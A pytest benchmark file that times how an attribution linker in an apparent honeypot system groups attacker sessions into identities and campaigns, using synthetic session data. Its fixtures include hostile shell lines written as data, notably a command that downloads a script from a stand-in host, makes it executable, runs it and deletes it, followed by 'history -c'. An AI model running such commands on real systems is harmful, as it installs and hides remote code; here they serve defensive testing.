"""What one session costs linking when a hundred and when a hundred thousand addresses are known, and the memory of it."""

from __future__ import annotations

import gc
import resource
import time
from collections.abc import Iterator
from random import Random
from statistics import mean, median

import pytest

from decnet.attribution.linking import Features, Linker, features_of, restored, state_of
from decnet.events.session import SessionEnded
from tests.linkkit import session
from tests.plantkit import plant

pytestmark = [pytest.mark.bench, pytest.mark.timeout(900)]
FEW, MANY = 100, 100_000
STEPS = [f"{program} {'-x' * (n % 3)} /proc/{name}" for n, program in enumerate(("cat", "ls", "rm", "wget @", "sh", "ps", "chmod"))
         for name in ("cpuinfo", "meminfo", "mounts", "version", "stat")]  # fmt: skip


def sessions(count: int, seed: int) -> Iterator[Features]:
    """Sessions of addresses that come now and then, as real ones do: most with nothing of their own."""
    rnd = Random(seed)
    kits = [tuple(rnd.sample(STEPS, rnd.randrange(4, 12))) for _ in range(400)]
    for at in range(count * 10**9):
        number = rnd.randrange(count)
        own = Random(number)
        owner, kit, kind = number // 6, own.randrange(400), own.random()
        soft = {
            "client": f"SSH-2.0-c{int(own.paretovariate(0.5))}",
            "network": f"10.{number // 20_000}.{number // 100 % 200}.0/24",
        }
        logins = [
            own.randrange(20_000) if own.random() < 0.5 else own.randrange(200)
            for _ in range(own.randrange(20))
        ]
        address = f"10.{number // 20_000}.{number // 100 % 200}.{number % 100}"
        hard: dict[str, str] = {}
        if kind < 0.1:
            hard["host"] = f"h{owner}.test"
        elif kind < 0.13:
            hard["key"] = f"SHA256:{owner}"
        elif kind < 0.3:
            hard["key"] = "SHA256:everybody's"
        script = kits[kit] if kind < 0.5 else ()
        yield session(address, float(at), script, sorted(set(logins)), **soft, **hard)


def taken(linker: Linker, fresh: list[Features]) -> list[float]:
    """Seconds of CPU that each of some sessions took that bring new owners, kits and a crowd."""
    found = []
    for features in fresh:
        started = time.process_time()
        linker.add(features)
        found.append(time.process_time() - started)
    return found


def test_a_session_costs_the_same_with_a_hundred_and_a_hundred_thousand_addresses() -> None:
    figures = {}
    fresh = sorted(plant(99, owners=30).sessions, key=lambda one: one.at)
    for count, known in ((FEW, 5 * FEW), (MANY, 5 * MANY)):
        gc.collect()
        before, linker, source = (
            resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
            Linker(),
            sessions(count, 7),
        )
        started = time.process_time()
        for _ in range(known):
            linker.add(next(source))
        filled = time.process_time() - started
        used = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
        addresses = len(linker.index.profiles)
        times = taken(linker, fresh)
        figures[count] = mean(times)
        print(
            f"\nlinking, {addresses} addresses: {mean(times) * 1e3:.3f} ms a session (median {median(times) * 1e3:.3f},"
            f" longest {max(times) * 1e3:.1f}), {known} sessions before them in {filled:.0f} s and {used:.0f} MiB,"
            f" {len(linker.identities())} identities, {len(linker.campaigns())} campaigns"
        )
    assert max(figures.values()) <= 0.002
    assert figures[MANY] <= 1.2 * figures[FEW]


def test_reading_a_session_and_following_all_that_changed() -> None:
    lines = [
        "uname -a",
        "cd /tmp || cd /var/run; wget http://a.test/x.sh; chmod 777 {n}.sh; sh {n}.sh; rm -rf {n}.sh",
        "history -c",
    ]
    said = {"session_id": "s", "attacker_ip": "203.0.113.7", "attacker_uuid": "u", "ended_at": 9.0}
    parts = [
        SessionEnded.parse({**said, "commands": [{"command_text": line.format(n=n)} for line in lines]}, [])
        for n in range(500)
    ]
    started = time.process_time()
    for part in parts:
        features_of([part])
    read = (time.process_time() - started) / len(parts)
    linker, source = Linker(), sessions(20_000, 7)
    for _ in range(40_000):
        linker.add(next(source))
    started = time.process_time()
    linker.settle()
    settled = time.process_time() - started
    state = state_of(linker)
    started = time.process_time()
    restored(state)
    again = time.process_time() - started
    print(
        f"\nlinking: features of a session {read * 1e3:.2f} ms; 20,000 addresses settled in {settled:.1f} s, restored in {again:.1f} s"
    )
    assert read <= 0.002
    assert settled < 10
    assert again < 20
